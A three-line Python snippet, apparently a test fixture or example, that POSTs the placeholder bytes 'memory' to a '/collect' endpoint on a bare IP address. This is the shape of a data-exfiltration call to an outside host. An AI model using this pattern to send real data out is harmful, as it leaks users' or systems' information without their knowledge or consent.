import urllib.request

urllib.request.urlopen("http://203.0.113.9/collect", data=b"memory")
